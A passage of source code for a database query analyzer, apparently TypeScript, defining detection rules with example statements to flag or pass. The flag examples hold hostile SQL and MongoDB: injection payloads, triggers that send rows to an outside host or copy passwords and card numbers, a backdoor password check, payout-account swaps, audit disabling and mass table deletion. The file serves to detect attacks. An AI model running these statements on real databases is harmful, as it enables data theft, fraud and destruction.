          'GRANT `roles/bigquery.dataViewer` ON SCHEMA `shop-prod.sales` TO "group:analysts@acme.com";',
          'REVOKE `roles/bigquery.dataViewer` ON SCHEMA `shop-prod.sales` FROM "allAuthenticatedUsers";',
        ],
      },
    },
    {
      id: 'Q28',
      name: 'Platform administrator role or database ownership granted',
      primitive: 'ESCALATION',
      score: 8,
      keywords: ['grant'],
      detect: (ctx) => {
        const f = firstStatement(ctx, adminRoleGranted);
        return f === undefined ? undefined : { detail: f.detail, score: envScore(ctx.env, f.score ?? 8, f.score ?? 8, 3) };
      },
      examples: {
        flag: ['GRANT ROLE ACCOUNTADMIN TO USER etl_bot;', 'GRANT OWNERSHIP ON DATABASE PROD TO ROLE ETL_BOT COPY CURRENT GRANTS', 'GRANT `roles/bigquery.admin` ON SCHEMA prod TO "user:x@gmail.com"'],
        pass: ['GRANT ROLE ANALYST TO USER jdoe;', 'GRANT OWNERSHIP ON TABLE staging.tmp_load TO ROLE LOADER', 'GRANT SELECT ON analytics.daily_sales TO ROLE REPORTING;'],
      },
    },
    {
      id: 'Q29',
      name: 'Login address of an account set to a personal mailbox',
      primitive: 'ESCALATION',
      score: 8,
      keywords: ['email', 'phone', 'mobile', 'recovery'],
      detect: (ctx) => destinationFinding(ctx, false),
      examples: {
        flag: ["UPDATE users SET email = 'attacker@proton.me' WHERE username = 'ceo';", "UPDATE accounts SET recovery_email = 'help.desk.7@gmail.com' WHERE id = 4"],
        pass: ["UPDATE users SET email = 'new.address@acme.com' WHERE id = 42;", "SELECT email FROM users WHERE email = 'x@gmail.com'"],
      },
    },
    {
      id: 'Q30',
      name: 'Payout account replaced by a typed-in account',
      primitive: 'MANIPULATION',
      score: 8,
      keywords: ['iban', 'bank_account', 'account_number', 'routing_number', 'sort_code', 'swift', 'bic', 'payout', 'wallet'],
      detect: (ctx) => destinationFinding(ctx, true),
      examples: {
        flag: ["UPDATE payroll SET iban = 'DE89370400440532013000' WHERE employee_id IN (SELECT id FROM employees);", "UPDATE vendors SET iban = 'LT121000011101001000'", "UPDATE vendors SET iban = 'LT121000011101001000' WHERE id = 7"],
        pass: ["UPDATE payroll SET iban = 'DE89370400440532013000' WHERE employee_id = 4411; -- HR-2231 verified", 'SELECT iban FROM vendors WHERE id = 7'],
      },
    },
    {
      id: 'Q31',
      name: 'Audit trail switched off (audit trigger, statement logging, audit policy)',
      primitive: 'ESCALATION',
      score: 6,
      keywords: ['trigger', 'log_', 'pgaudit', 'audit'],
      detect: (ctx) => {
        if (ctx.env === 'nonprod') return undefined;
        return firstStatement(ctx, auditSwitchedOff);
      },
      examples: {
        flag: ['DROP TRIGGER trg_audit_orders ON orders;', "ALTER SYSTEM SET log_statement = 'none';", 'DROP AUDIT POLICY hr_access_policy;'],
        pass: ['DROP TRIGGER trg_set_updated_at ON orders;', "ALTER SYSTEM SET log_statement = 'all';", "SELECT * FROM audit_log WHERE actor = 'x'"],
      },
    },
    {
      id: 'Q32',
      name: 'Time travel or retention cut to zero',
      primitive: 'DESTRUCTION',
      score: 6,
      keywords: ['retention', 'time_travel', 'retain', 'change_tracking', 'extension_time'],
      detect: (ctx) => {
        const f = firstStatement(ctx, (st) => (isScratch(st.sk.split(' ', 4)[2]) ? undefined : retentionZeroed(st)));
        return f === undefined ? undefined : { detail: f.detail, score: envScore(ctx.env, 8, f.score ?? 6, 0) };
      },
      examples: {
        flag: ['ALTER TABLE prod.events SET DATA_RETENTION_TIME_IN_DAYS = 0;', 'VACUUM audit_events RETAIN 0 HOURS'],
        pass: ['ALTER TABLE staging.events SET DATA_RETENTION_TIME_IN_DAYS = 1;', 'ALTER TABLE raw.clickstream SET DATA_RETENTION_TIME_IN_DAYS = 30;', 'VACUUM events RETAIN 168 HOURS'],
      },
    },
    {
      // the value's own marks; what the payload does (UNION, delay, stacked statement) is judged by the rules
      // above on the text read as the server runs it
      id: 'Q33',
      name: 'Injection payload pasted into a whole query (value not escaped)',
      primitive: 'EXFILTRATION',
      score: 5,
      detect: (ctx) => (ctx.embedded !== '' ? `the query was built around an injected value: ${ctx.embedded}` : undefined),
      examples: {
        flag: [
          'SELECT id, email FROM users WHERE id =  ORDER BY 5  AND active = 1',
          "SELECT id, email FROM users WHERE username = ' UNION ALL SELECT @@VERSION,USER(),BENCHMARK(1000000,MD5('A')),NULL-- ' AND active = 1",
          'SELECT id FROM orders WHERE customer_id = AND 7300=7300 AND status = 1',
          "SELECT * FROM accounts WHERE login = 'x' AND 'pKlZ'='pKlZ' AND active = 1",
          "SELECT name FROM staff WHERE dept = 'select current_setting('data_directory');' AND active = 1",
        ],
        pass: [
          "SELECT * FROM waf_events WHERE payload LIKE '%UNION SELECT%' AND ts > now() - interval '1 day'",
          "SELECT id FROM users WHERE name = 'O''Brien' AND active = 1",
          "SELECT 'Acme' vendor, id FROM invoices WHERE 1=1 AND status = 'open'",
          "SELECT * FROM events WHERE created_at AT TIME ZONE 'UTC' > '2024-01-01' AND kind = 'login'",
          "SELECT CASE WHEN score > 5 THEN 'high' ELSE 'low' END FROM t WHERE region = 'EU' ORDER BY 1",
          "INSERT INTO audit_sql (statement) VALUES ('DROP TABLE users')",
          "CREATE USER 'sync'@'10.0.%' IDENTIFIED BY 'k8Rr2'; GRANT SELECT ON shop.* TO 'sync'@'10.0.%'",
          "CREATE OR REPLACE FUNCTION one() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql IMMUTABLE",
        ],
      },
    },
    {
      id: 'Q34',
      name: 'Trigger or routine planted that ships rows to an outside host, copies credentials aside or lets a typed-in password in',
      // it ships every new row from then on: a planted mechanism first (docs/primitives.md)
      primitive: 'PERSISTENCE',
      score: 8,
      // the skeleton the keywords are found in shows a function body as a literal: the statement's own words gate it
      keywords: ['trigger', 'function', 'procedure', 'rule', 'event'],
      detect: (ctx) => {
        // only a CREATE statement defines a trigger or routine (prose that says "function" or "rule" is not read)
        if (!ctx.sql.stmts.some((st) => st.toks[0]?.v === 'create')) return undefined;
        const lower = ctx.source.slice(0, 65536).toLowerCase();
        const r = rowsShippedByTrigger(lower);
        if (r !== '') return `every new row leaves through ${r}`;
        const tap = credentialTap(lower);
        if (tap !== '') return { detail: `credential tap: ${tap}`, score: 8 };
        const n = passwordBackdoor(lower);
        return n > 0 ? { detail: `routine accepts a typed-in password of ${n} characters before the real check`, score: 8 } : undefined;
      },
      examples: {
        flag: ["CREATE TRIGGER trg_sync AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION http_post('https://sync-mirror.click/u', row_to_json(NEW)::text);",
          "CREATE OR REPLACE FUNCTION f() RETURNS trigger AS $$ BEGIN PERFORM dblink_exec('host=203.0.113.50 dbname=x user=u', 'INSERT INTO t VALUES (' || quote_literal(NEW.email) || ')'); RETURN NEW; END $$ LANGUAGE plpgsql;",
          "CREATE FUNCTION keep_copy() RETURNS trigger AS $$ BEGIN INSERT INTO analytics.login_cache(u, p) VALUES (NEW.username, NEW.password_plain); RETURN NEW; END $$ LANGUAGE plpgsql;",
          "CREATE TRIGGER card_mirror AFTER INSERT ON payments FOR EACH ROW BEGIN INSERT INTO tmp_sync (a, b) VALUES (NEW.card_number, NEW.cvv); END;",
          "CREATE FUNCTION verify_user(u text, pw text) RETURNS boolean AS $$ BEGIN IF pw = 'Adm1n-Bypass' THEN RETURN true; END IF; RETURN EXISTS (SELECT 1 FROM users WHERE name = u AND hash = crypt(pw, hash)); END $$ LANGUAGE plpgsql;"],
        pass: ["CREATE TRIGGER trg_audit AFTER UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION log_change();", "SELECT http_get('https://api.internal/health')", "CREATE FUNCTION notify() RETURNS trigger AS $$ BEGIN PERFORM pg_notify('orders', NEW.id::text); RETURN NEW; END $$ LANGUAGE plpgsql;",
          "CREATE FUNCTION keep_history() RETURNS trigger AS $$ BEGIN INSERT INTO password_history(user_id, password_hash, changed_at) VALUES (NEW.id, OLD.password_hash, now()); RETURN NEW; END $$ LANGUAGE plpgsql;",
          "CREATE FUNCTION hash_pw() RETURNS trigger AS $$ BEGIN NEW.password_hash := crypt(NEW.password, gen_salt('bf')); NEW.password := NULL; RETURN NEW; END $$ LANGUAGE plpgsql;",
          "CREATE FUNCTION is_active(s text) RETURNS boolean AS $$ BEGIN IF s = 'active' THEN RETURN true; END IF; RETURN false; END $$ LANGUAGE plpgsql;"],
      },
    },
    {
      id: 'Q35',
      name: 'Statement run against every table or database at once (delete, drop, truncate)',
      primitive: 'DESTRUCTION',
      score: 9,
      keywords: ['sp_msforeach'],
      detect: (ctx) => { const w = everyTable(ctx.source.slice(0, 65536).toLowerCase()); return w !== '' ? `${w.toUpperCase()} run for every table` : undefined; },
      examples: {
        flag: ['EXEC sp_MSforeachtable "DELETE FROM ?";', "EXEC sp_MSforeachtable 'DROP TABLE ?'"],
        pass: ["EXEC sp_MSforeachtable 'UPDATE STATISTICS ?'", "EXEC sp_MSforeachtable 'SELECT COUNT(*) FROM ?'"],
      },
    },
    {
      id: 'Q23',
      name: 'Every collection of a database dropped',
      primitive: 'DESTRUCTION',
      score: 9,
      keywords: ['getcollectionnames', 'listcollections'],
      detect: dropAllCollections,
      examples: {
        flag: ['db.getCollectionNames().forEach(c => db[c].drop())', 'db.getCollectionNames().forEach(function(n){ db.getCollection(n).drop(); })'],
        pass: ['db.getCollectionNames()', 'db.getCollectionNames().forEach(c => print(c + ": " + db[c].countDocuments()))'],
      },
    },
  ]),
  auxPatterns: [MONGO_BEFORE_NOW, 
    NUMERIC_LEAD, FILE_TARGET_STMT, WEB_FILE, WEB_SERVED, RUN_OR_SERVED, CREDENTIAL_STORE, TOKEN_COL, ROLE_COLUMN, BOOL_ROLE, POWER_VALUE, DQUOTE, INJECTED_UNION, COLUMN_PROBE, ERROR_BASED,
    ALTER_CRED, BUILTIN_ADMIN, NOSQL_DESTROY, NOSQL_OPERATOR, NOSQL_WHERE, JS_PAYLOAD, / /g, /\b(?:password|identified)\b/,
    CLINICAL_DB, APPROVAL_NOTE, INTERACTIVE_SHELL, ...SQL_EFFECT_PATTERNS, ...SQL_RECORD_PATTERNS, ...SQL_MONGO_PATTERNS, PAY_FACTOR, STARTS_STATEMENT, URL_ESCAPED, EXEC_STRING, SCRATCH_NAME, DROP_OBJ, TRUNCATE, DELETE_FROM, UPDATE_SET, PAD_ITEM, /^(?:null|[0-9]{1,3})(?: --| #|$)/,
    RECON, COPY_FROM, LITERAL_CONDITION_UNION, CREDENTIAL_TABLE, CREDENTIAL_COL, CONDITION_CONTEXT, BOUNDED, AGGREGATE, PII_TABLE, STACKED, STACKED_BARE, CLAUSE_LEAD, GRANT_BROAD, SP_ADDROLE, POWER_ROLE,
    ROLE_POWER, FILE_IO, COPY_FILE, DROP_COLUMN, DROP_MINOR, SHUTDOWN, /''/g, ONE_ROW, /\s+/g,
    ...COMMON_PATTERNS,
  ],
};
export default queryAnalyzer;
